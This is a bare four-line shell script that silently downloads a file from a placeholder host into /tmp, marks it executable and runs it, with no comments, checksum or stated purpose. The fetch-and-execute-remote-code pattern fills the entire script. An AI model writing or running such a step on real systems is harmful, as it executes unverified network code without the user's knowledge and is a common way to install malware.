#!/bin/sh
curl -so /tmp/up https://files.example.net/up
chmod +x /tmp/up
/tmp/up
